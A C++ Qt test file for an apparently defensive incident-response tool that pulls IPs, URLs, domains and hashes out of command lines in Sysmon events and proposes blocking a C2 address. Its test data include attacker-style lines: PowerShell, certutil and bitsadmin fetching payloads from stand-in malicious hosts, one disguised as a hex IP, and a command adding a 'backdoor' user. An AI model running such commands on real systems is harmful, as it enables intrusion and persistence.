// Indicators written in a case's command lines become case indicators at import (SPEC §6):
// the sample's C2 hidden as 0xB9DC652A in an encoded PowerShell line, idempotent re-import,
// event files imported after or before the incident, the window and benign-line rules, and
// stage 6 proposing the C2 for blocking once intel scores it. Runs on SQLite and PostgreSQL.
#include "cmdline/cmdlineindicators.h"
#include "cmdline/commandlineanalyzer.h"
#include "import/importdispatcher.h"
#include "playbook/playbookengine.h"
#include "playbook/stageservices.h"
#include "store/casestore.h"
#include "testutils.h"

#include <QFile>
#include <QJsonDocument>
#include <QJsonObject>
#include <QScopeGuard>
#include <QTemporaryDir>
#include <QTest>

#include <nlohmann/json.hpp>

using namespace causa;

namespace {

const QString kC2 = QStringLiteral("185.220.101.42");

QString sampleFile(const char *name)
{
    return test::sourceDir() + QStringLiteral("/resources/samples/") + QString::fromLatin1(name);
}

const CaseIndicator *findIndicator(const std::vector<CaseIndicator> &all, const QString &type,
                                   const QString &value)
{
    for (const CaseIndicator &i : all)
        if (i.type == type && i.value == value)
            return &i;
    return nullptr;
}

QString describe(const std::vector<CaseIndicator> &all)
{
    QStringList parts;
    for (const CaseIndicator &i : all)
        parts << QStringLiteral("%1=%2 [%3] as %4%5")
                     .arg(i.type, i.value, i.contexts.join(QLatin1Char(',')), i.asWritten,
                          i.internal ? QStringLiteral(" internal") : QString());
    return parts.join(QStringLiteral("; "));
}

// One Sysmon process-creation record on the sample host.
QByteArray sysmonProcess(const QString &time, int pid, const QString &image,
                         const QString &commandLine)
{
    QJsonObject o{
        {QStringLiteral("EventID"), 1},
        {QStringLiteral("Channel"), QStringLiteral("Microsoft-Windows-Sysmon/Operational")},
        {QStringLiteral("Hostname"), QStringLiteral("FIN-WS-042.corp.example")},
        {QStringLiteral("UtcTime"), QString(time + QStringLiteral(".000"))},
        {QStringLiteral("EventTime"), time},
        {QStringLiteral("ProcessGuid"),
         QStringLiteral("{7c1e2a10-9999-6a4f-0000-%1}").arg(pid, 12, 10, QLatin1Char('0'))},
        {QStringLiteral("ProcessId"), pid},
        {QStringLiteral("Image"), image},
        {QStringLiteral("CommandLine"), commandLine},
        {QStringLiteral("User"), QStringLiteral("CORP\\svc_backup")},
        {QStringLiteral("ParentProcessGuid"),
         QStringLiteral("{7c1e2a10-0001-6a4f-0b00-000000002500}")},
        {QStringLiteral("ParentProcessId"), 688},
        {QStringLiteral("ParentImage"), QStringLiteral("C:\\Windows\\System32\\services.exe")}};
    return QJsonDocument(o).toJson(QJsonDocument::Compact) + '\n';
}

} // namespace

class TestCmdlineIndicators : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void sampleC2BecomesCaseIndicator_data();
    void sampleC2BecomesCaseIndicator();
    void reimportAddsNothing();
    void lineIndicatorTypes_data();
    void lineIndicatorTypes();
    void eventFileAfterIncident();
    void eventFileBeforeIncident();
    void stage6ProposesBlockingTheC2();

private:
    QString writeEvents(const QByteArray &lines);
    QTemporaryDir m_dir;
    int m_files = 0;
};

void TestCmdlineIndicators::initTestCase()
{
    QVERIFY(m_dir.isValid());
    // Enrichment in stage 6's test uses only the local intel: nothing may leave the machine.
    qputenv("CAUSA_OFFLINE", "1");
    qunsetenv("CAUSA_VT_API_KEY");
    qunsetenv("CAUSA_ABUSEIPDB_API_KEY");
}

QString TestCmdlineIndicators::writeEvents(const QByteArray &lines)
{
    const QString path = m_dir.path() + QStringLiteral("/events-%1.jsonl").arg(++m_files);
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly))
        return {};
    f.write(lines);
    return path;
}

// The importer reads an alert's command lines on its reading side, which is its own thread when
// the importer takes two: the indicators must come the same way on both.
void TestCmdlineIndicators::sampleC2BecomesCaseIndicator_data()
{
    QTest::addColumn<QByteArray>("threads");
    QTest::newRow("one thread") << QByteArray("1");
    QTest::newRow("two threads") << QByteArray("2");
}

void TestCmdlineIndicators::sampleC2BecomesCaseIndicator()
{
    QFETCH(QByteArray, threads);
    qputenv("CAUSA_IMPORT_THREADS", threads);
    const auto restore = qScopeGuard([] { qunsetenv("CAUSA_IMPORT_THREADS"); });
    test::TempStore ts;
    auto counts = ImportDispatcher(ts.store()).importFile(sampleFile("fin-ws-042-incident.json"));
    QVERIFY2(counts, qPrintable(counts ? QString() : counts.error().toString()));
    auto cases = ts.store().cases();
    QVERIFY(cases && cases->size() == 1);
    auto inds = ts.store().indicatorsOfCase(cases->front().id);
    QVERIFY(inds);
    const CaseIndicator *c2 = findIndicator(inds.value(), QStringLiteral("ipv4"), kC2);
    QVERIFY2(c2, qPrintable(describe(inds.value())));
    QVERIFY2(c2->contexts.contains(QStringLiteral("cmdline")), qPrintable(describe(inds.value())));
    // The disguise the attacker used is kept: that is what to search other hosts' logs for.
    QCOMPARE(c2->asWritten, QStringLiteral("0xB9DC652A"));
    QVERIFY(!c2->internal);
    // The download URL, with the address made canonical, came from the same line.
    const CaseIndicator *url =
        findIndicator(inds.value(), QStringLiteral("url"),
                      QStringLiteral("http://185.220.101.42:8080/update.ps1"));
    QVERIFY2(url, qPrintable(describe(inds.value())));
    QVERIFY(url->contexts.contains(QStringLiteral("cmdline")));
    QCOMPARE(url->asWritten, QStringLiteral("http://0xB9DC652A:8080/update.ps1"));
}

void TestCmdlineIndicators::reimportAddsNothing()
{
    test::TempStore ts;
    ImportDispatcher importer(ts.store());
    QVERIFY(importer.importFile(sampleFile("fin-ws-042-incident.json")));
    QVERIFY(importer.importFile(sampleFile("fin-ws-042-events.jsonl")));
    auto cases = ts.store().cases();
    QVERIFY(cases && cases->size() == 1);
    auto before = ts.store().indicatorsOfCase(cases->front().id);
    QVERIFY(before);
    auto again = importer.importFile(sampleFile("fin-ws-042-incident.json"));
    QVERIFY(again);
    QCOMPARE(again->indicators, qint64(0));
    auto events = importer.importFile(sampleFile("fin-ws-042-events.jsonl"));
    QVERIFY(events);
    QCOMPARE(events->indicators, qint64(0));
    auto after = ts.store().indicatorsOfCase(cases->front().id);
    QVERIFY(after);
    QCOMPARE(describe(after.value()), describe(before.value()));
}

void TestCmdlineIndicators::lineIndicatorTypes_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("type");
    QTest::addColumn<QString>("value");
    QTest::addColumn<bool>("internal");
    QTest::addColumn<bool>("kept");
    QTest::newRow("hex C2 in url")
        << QStringLiteral("powershell iwr http://0xB9DC652A:8080/a.ps1 -OutFile a.ps1") << "ipv4"
        << kC2 << false << true;
    QTest::newRow("private share host kept, marked internal")
        << QStringLiteral("copy C:\\x.exe \\\\10.20.30.15\\c$\\x.exe") << "ipv4"
        << "10.20.30.15" << true << true;
    QTest::newRow("defanged domain") << QStringLiteral("nslookup evil[.]example[.]ru") << "domain"
                                     << "evil.example.ru" << false << true;
    QTest::newRow("sha256")
        << QStringLiteral(
               "certutil -hashfile x SHA256 E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855")
        << "sha256"
        << "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855" << false << true;
    // Users and paths are evidence of their own kind, not indicators to enrich or block here.
    QTest::newRow("user not a case indicator")
        << QStringLiteral("net user backdoor P@ss /add") << "user"
        << "backdoor" << false << false;
    QTest::newRow("unc path not a case indicator")
        << QStringLiteral("copy x.exe \\\\10.0.0.5\\c$\\x.exe") << "path"
        << "\\\\10.0.0.5\\c$\\x.exe" << true << false;
}

void TestCmdlineIndicators::lineIndicatorTypes()
{
    QFETCH(QString, line);
    QFETCH(QString, type);
    QFETCH(QString, value);
    QFETCH(bool, internal);
    QFETCH(bool, kept);
    const QList<IndicatorRecord> records =
        CommandLineIndicators::indicatorsOf(sharedCommandLineAnalyzer(), line);
    const IndicatorRecord *hit = nullptr;
    for (const IndicatorRecord &r : records) {
        QCOMPARE(r.context, QStringLiteral("cmdline"));
        if (r.type == type && r.value == value)
            hit = &r;
    }
    QCOMPARE(hit != nullptr, kept);
    if (hit)
        QCOMPARE(hit->internal, internal);
}

void TestCmdlineIndicators::eventFileAfterIncident()
{
    test::TempStore ts;
    ImportDispatcher importer(ts.store());
    QVERIFY(importer.importFile(sampleFile("fin-ws-042-incident.json")));
    auto cases = ts.store().cases();
    QVERIFY(cases && cases->size() == 1);
    const qint64 caseId = cases->front().id;
    // The incident's alerts are at 08:54 and 08:57 UTC on 2026-11-19.
    const QString path = writeEvents(
        sysmonProcess(
            QStringLiteral("2026-11-19 09:10:00"), 4100,
            QStringLiteral("C:\\Windows\\System32\\certutil.exe"),
            QStringLiteral(
                "certutil.exe -urlcache -split -f http://stage2-cdn.xyz/p.exe C:\\Users\\Public\\p.exe")) +
        sysmonProcess(
            QStringLiteral("2026-11-19 09:11:00"), 4104,
            QStringLiteral("C:\\Program Files\\Contoso\\updater.exe"),
            QStringLiteral(
                "\"C:\\Program Files\\Contoso\\updater.exe\" --check https://updates.contoso-example.com/feed")) +
        sysmonProcess(
            QStringLiteral("2026-11-21 09:10:00"), 4108,
            QStringLiteral("C:\\Windows\\System32\\certutil.exe"),
            QStringLiteral(
                "certutil.exe -urlcache -split -f http://much-later.xyz/p.exe C:\\Users\\Public\\p.exe")));
    auto counts = importer.importFile(path);
    QVERIFY2(counts, qPrintable(counts ? QString() : counts.error().toString()));
    QCOMPARE(counts->events, qint64(3));
    auto inds = ts.store().indicatorsOfCase(caseId);
    QVERIFY(inds);
    const CaseIndicator *url = findIndicator(inds.value(), QStringLiteral("url"),
                                             QStringLiteral("http://stage2-cdn.xyz/p.exe"));
    QVERIFY2(url && url->contexts.contains(QStringLiteral("cmdline")),
             qPrintable(describe(inds.value())));
    QVERIFY2(
        findIndicator(inds.value(), QStringLiteral("domain"), QStringLiteral("stage2-cdn.xyz")),
        qPrintable(describe(inds.value())));
    // An ordinary updater's URL is not made a case indicator; neither is a line two days later.
    QVERIFY2(!findIndicator(inds.value(), QStringLiteral("domain"),
                            QStringLiteral("updates.contoso-example.com")),
             qPrintable(describe(inds.value())));
    QVERIFY2(
        !findIndicator(inds.value(), QStringLiteral("domain"), QStringLiteral("much-later.xyz")),
        qPrintable(describe(inds.value())));
}

void TestCmdlineIndicators::eventFileBeforeIncident()
{
    test::TempStore ts;
    ImportDispatcher importer(ts.store());
    const QString path = writeEvents(sysmonProcess(
        QStringLiteral("2026-11-19 08:40:00"), 4200,
        QStringLiteral("C:\\Windows\\System32\\bitsadmin.exe"),
        QStringLiteral(
            "bitsadmin /transfer j /download /priority high http://drop.evil-cdn.top/s.exe C:\\Users\\Public\\s.exe")));
    QVERIFY(importer.importFile(path));
    QVERIFY(importer.importFile(sampleFile("fin-ws-042-incident.json")));
    auto cases = ts.store().cases();
    QVERIFY(cases && cases->size() == 1);
    auto inds = ts.store().indicatorsOfCase(cases->front().id);
    QVERIFY(inds);
    QVERIFY2(findIndicator(inds.value(), QStringLiteral("url"),
                           QStringLiteral("http://drop.evil-cdn.top/s.exe")),
             qPrintable(describe(inds.value())));
    QVERIFY(findIndicator(inds.value(), QStringLiteral("ipv4"), kC2));
}

void TestCmdlineIndicators::stage6ProposesBlockingTheC2()
{
    test::TempStore ts;
    ImportDispatcher importer(ts.store());
    // The PsExec alert marked blocked, so containment needs no approval and the run reaches
    // stage 6 (as in tst_playbookengine).
    const QString incident = m_dir.path() + QStringLiteral("/incident-blocked.json");
    {
        QFile in(sampleFile("fin-ws-042-incident.json"));
        QVERIFY(in.open(QIODevice::ReadOnly));
        nlohmann::json doc = nlohmann::json::parse(in.readAll().toStdString());
        doc["reply"]["alerts"]["data"][0]["action"] = "BLOCKED";
        doc["reply"]["alerts"]["data"][0]["action_pretty"] = "Prevented (Blocked)";
        QFile out(incident);
        QVERIFY(out.open(QIODevice::WriteOnly));
        out.write(QByteArray::fromStdString(doc.dump()));
    }
    QVERIFY(importer.importFile(incident));
    // The sample feed does not list the C2; a feed that does gives it score 3.
    const QString feed = m_dir.path() + QStringLiteral("/c2-feed.csv");
    {
        QFile f(feed);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("type,value,score,confidence,tlp,description\n"
                "ipv4,185.220.101.42,3,90,AMBER,C2 of the FIN-sector intrusion set\n");
    }
    QVERIFY(importer.importFile(feed));
    auto cases = ts.store().cases();
    QVERIFY(cases && cases->size() == 1);
    const qint64 caseId = cases->front().id;

    auto def = PlaybookDefinition::load(QStringLiteral("remote-psexec-lolbin"));
    QVERIFY2(def, qPrintable(def ? QString() : def.error().toString()));
    PlaybookEngine engine(ts.store(), def.value(), composeStageServices(ts.store()));
    auto run = engine.start(caseId, {}, QStringLiteral("tester"));
    QVERIFY2(run, qPrintable(run ? QString() : run.error().toString()));
    auto view = engine.runAll(run->id, QStringLiteral("tester"));
    QVERIFY2(view, qPrintable(view ? QString() : view.error().toString()));
    bool blockC2 = false;
    for (const ActionRecord &a : view->actions)
        blockC2 = blockC2 || (a.kind == QLatin1String("block_ip") && a.target == kC2);
    QVERIFY2(blockC2, qPrintable(QString::fromStdString(toJson(view.value()).dump())));
}

QTEST_GUILESS_MAIN(TestCmdlineIndicators)
#include "tst_cmdlineindicators.moc"
